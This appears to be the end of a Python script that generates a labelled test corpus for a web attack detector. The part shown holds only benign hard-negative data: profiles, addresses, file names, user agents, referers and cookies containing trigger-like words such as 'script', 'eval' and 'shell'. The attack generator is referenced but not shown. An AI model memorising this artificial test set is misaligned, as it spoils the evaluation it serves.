    {"name": "Meta Analytics", "bio": "Charts, dashboards, and data stories.", "city": "Berlin"},
    {"name": "Link Logistics", "bio": "Last-mile delivery; location tracking included.", "city": "Dublin"},
    {"name": "Applet Apps", "bio": "Tiny apps for busy people.", "city": "Austin"},
    {"name": "Cookie Monster Bakery", "bio": "Cookies, cakes & coffee.", "city": "Portland"},
    {"name": "Top Frame Gallery", "bio": "Art framing and prints.", "city": "Melbourne"},
    {"name": "Parent Network", "bio": "Support for parents of teens.", "city": "Toronto"},
    {"name": "Self Storage Plus", "bio": "Units from 5 to 300 sq ft.", "city": "Phoenix"},
    {"name": "Alert Security Services", "bio": "Alarm monitoring 24/7.", "city": "Leicester"},
    {"name": "Prompt Plumbing", "bio": "Prompt service, fair prices.", "city": "Cork"},
    {"name": "Confirm Events", "bio": "Weddings and corporate events.", "city": "Lisbon"},
    {"name": "Shell Beach Cafe", "bio": "Breakfast by the sea.", "city": "Brighton"},
    {"name": "Exec Coaching", "bio": "Executive coaching for new managers.", "city": "Boston"},
    {"name": "Passthru Networks", "bio": "Network cabling and Wi-Fi surveys.", "city": "Cardiff"},
    {"name": "Popen Family Farm", "bio": "Organic vegetables, boxes weekly.", "city": "Utrecht"},
    {"name": "Nguyễn Văn An", "bio": "Backend developer, Go & PHP.", "city": "Hà Nội"},
    {"name": "Łukasz Żółć", "bio": "QA engineer; writes test scripts.", "city": "Kraków"},
    {"name": "Søren Kierkegaard Jr.", "bio": "Philosophy podcast host.", "city": "København"},
    {"name": "Ahmed Al-Farsi", "bio": "Embedded systems, C and Rust.", "city": "Muscat"},
    {"name": "李明", "bio": "全栈工程师", "city": "上海"},
    {"name": "Priya Natarajan", "bio": "Security engineer; XSS and CSP nerd.", "city": "Bengaluru"},
    {"name": "Tom O'Brien-Walsh", "bio": "Musician (audio, video, marquee lights).", "city": "Belfast"},
    {"name": "Ana \"Nina\" Costa", "bio": "Designer - fonts, icons & SVG.", "city": "Porto"},
    {"name": "Kai Müller", "bio": "Maths teacher; loves tables and charts.", "city": "München"},
    {"name": "Frank Template", "bio": "Template designer for newsletters.", "city": "Chicago"},
    {"name": "Handle Bar & Grill", "bio": "Burgers, beer and bikes.", "city": "Denver"},
    {"name": "Expression Dance School", "bio": "Ballet, jazz and modern.", "city": "Vienna"},
    {"name": "Behavior Lab", "bio": "Behavioral research consultancy.", "city": "Amsterdam"},
]

ADDRESSES = [
    "12 Script Lane, Springfield, IL 62704",
    "Flat 3, 45 Window Street, London SW1A 1AA",
    "1600 Amphitheatre Pkwy, Mountain View, CA 94043",
    "Rue de l'Église 7, 1000 Bruxelles",
    "Hauptstraße 5a, 10115 Berlin",
    "221B Baker Street, London NW1 6XE",
    "Calle Mayor 1, 28013 Madrid",
    "PO Box 100, Anchorage, AK 99501",
    "Unit 4 / 88 Base Road, Sydney NSW 2000",
    "Apt #12-B, 350 Fifth Ave, New York, NY 10118",
    "Object Park, Building C, Level 2, Pune 411001",
    "Via dell'Arte 3, 00186 Roma",
    "Top Floor, 9 Parent Close, Leeds LS1 4AP",
    "1 Infinite Loop, Cupertino, CA 95014",
    "Ul. Marszałkowska 10/12, 00-001 Warszawa",
    "3-chōme-1-1 Marunouchi, Chiyoda City, Tokyo",
    "Embed Street 4, 3011 Rotterdam",
    "Meta House, 2 Link Avenue, Dublin 2",
    "Alert Road 44, 8001 Zürich",
    "Confirm Court 9, Auckland 1010",
]

BENIGN_FILES = [
    "report.pdf", "invoice-2024-05.xlsx", "photo.jpg", "avatar.png", "resume_final.docx", "notes.txt",
    "php-cheatsheet.pdf", "javascript-guide.pdf", "style.css.txt", "script-notes.md", "meeting 2024-05-01.pdf",
    "Zoë's photo.jpeg", "team_photo (1).png", "scan0001.tiff", "budget_Q3.csv", "contract-v2.pdf",
    "slides.pptx", "logo.svg", "data.json", "backup.tar.gz", "archive.zip", "recording.mp3", "clip.mp4",
    "diagram.drawio", "phpunit-report.xml", "index.html.txt", "README.md", "system-design.png",
    "angular-upgrade-plan.docx", "eval-results.csv",
]

BENIGN_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36 Edg/124.0.2478.67",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "curl/8.4.0",
    "python-requests/2.31.0",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "axios/1.6.8",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "PostmanRuntime/7.37.3",
    "Java/17.0.10",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "GuzzleHttp/7",
    "WordPress/6.5.2; https://blog.example.com",
    "PHP/8.3.6",
    "Slackbot 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Twitterbot/1.0",
    "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Datadog Agent/7.52.0",
    "kube-probe/1.29",
    "ELB-HealthChecker/2.0",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17531; Pro)",
]

BENIGN_REFERERS = [
    "https://www.google.com/search?q=php+system+function+tutorial",
    "https://www.google.com/search?q=javascript+onload+event",
    "https://www.bing.com/search?q=angular+template+syntax",
    "https://duckduckgo.com/?q=meta+charset+utf-8&ia=web",
    "https://stackoverflow.com/questions/1234567/how-to-use-document-cookie",
    "https://github.com/acme/webapp/pull/812",
    "https://www.php.net/manual/en/function.eval.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/embed",
    "https://app.example.com/admin/users?page=3&sort=name",
    "https://app.example.com/dashboard#/reports/2024-05",
    "https://mail.example.com/mail/u/0/#inbox",
    "https://t.co/AbCdEf123",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fapp.example.com%2F&h=AT0",
    "https://www.linkedin.com/feed/",
    "https://news.ycombinator.com/item?id=40000000",
    "https://www.reddit.com/r/PHP/comments/abc123/php_84_released/",
    "https://docs.example.com/search?q=base+href",
    "https://shop.example.com/cart?item=script-book&qty=1",
    "https://example.com/blog/xss-prevention-in-2024",
    "https://app.example.com/settings/profile?tab=style",
]

BENIGN_COOKIES = [
    "session=abc123; theme=dark; lang=en-GB",
    "session=abc123; consent=analytics%3Dtrue%2Cads%3Dfalse",
    "_ga=GA1.2.1234567890.1714000000; _gid=GA1.2.987654321.1714500000",
    "session=abc123; last_search=php%20developer",
    "session=abc123; tz=Europe%2FLondon; fmt=24h",
    "session=abc123; cart=%7B%22items%22%3A2%7D",
    "PHPSESSID=9c2f1b3e7a4d5c6b8e0f1a2b3c4d5e6f",
    "JSESSIONID=0A1B2C3D4E5F60718293A4B5C6D7E8F9; Path=/",
    "session=abc123; recently_viewed=script-book,style-guide,meta-course",
    "session=abc123; layout=frames; sidebar=left",
    "session=abc123; onboarding_step=3; alert_dismissed=1",
    "session=abc123; name=O%27Brien",
    "session=abc123; prefs=%7B%22font%22%3A%22serif%22%2C%22size%22%3A14%7D",
    "wordpress_test_cookie=WP%20Cookie%20check",
    "session=abc123; ab_test=variant_b; location=US",
    "session=abc123; display_name=Zo%C3%AB",
    "session=abc123; return_to=%2Fadmin%2Fusers%2Fsearch%3Fq%3Dann",
    "session=abc123; timezone=America/New_York",
    "session=abc123; editor=vim; eval_mode=off",
    "session=abc123; search_history=embed%7Capplet%7Cobject",
]


def _benign_extra(n: int) -> Iterator[dict[str, Any]]:
    """Searches, profiles, addresses, uploads, headers and cookies, numbered on from n."""
    for term in SEARCHES:
        n += 1
        yield {**_get(_query("/api/users", [("q", term), ("page", "1")])), "id": f"{NAME}-search-{n:04d}",
               "category": "benign", "placement": "query"}
    for doc in PROFILES:
        n += 1
        yield {**_json("/api/users", {"email": "user@example.org", **doc}), "id": f"{NAME}-profile-{n:04d}",
               "category": "benign", "placement": "json"}
    for addr in ADDRESSES:
        n += 1
        yield {**_json("/api/users/42", {"shipping_address": addr, "billing_address": addr}),
               "id": f"{NAME}-address-{n:04d}", "category": "benign", "placement": "json"}
        n += 1
        yield {**_form("/admin/users/search", [("csrf_token", "t0k3n"), ("address", addr)]),
               "id": f"{NAME}-address-{n:04d}", "category": "benign", "placement": "form"}
    for i, fname in enumerate(BENIGN_FILES):
        n += 1
        body, ctype = _multipart([("csrf_token", "t0k3n"), ("description", "Uploaded by Ann, " + fname)],
                                 ("file", fname, "hello world\n"))
        uri = "/admin/users/import" if i % 2 else "/api/users/42/avatar"
        yield {"method": "POST", "uri": uri, "body": body, "headers": _headers({"Content-Type": ctype}),
               "id": f"{NAME}-upload-{n:04d}", "category": "benign", "placement": "multipart"}
    for ua in BENIGN_UAS:
        n += 1
        yield {**_get("/api/users?page=1"), "headers": _headers(ua=ua), "id": f"{NAME}-ua-{n:04d}",
               "category": "benign", "placement": "header:User-Agent"}
    for ref in BENIGN_REFERERS:
        n += 1
        yield {**_get("/api/users/42"), "headers": _headers({"Referer": ref}), "id": f"{NAME}-referer-{n:04d}",
               "category": "benign", "placement": "header:Referer"}
    for cookie in BENIGN_COOKIES:
        n += 1
        yield {**_get("/api/users?page=1"), "headers": _headers({"Cookie": cookie}), "id": f"{NAME}-cookie-{n:04d}",
               "category": "benign", "placement": "cookie"}
    for text in SLACK_TEXTS[::4]:
        n += 1
        yield {**_get(_query("/api/users", [("q", text[:60])])), "id": f"{NAME}-search-{n:04d}",
               "category": "benign", "placement": "query"}


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    yield from _benign_extra(n)

if __name__ == "__main__":
    print_records(attacks(), benign())
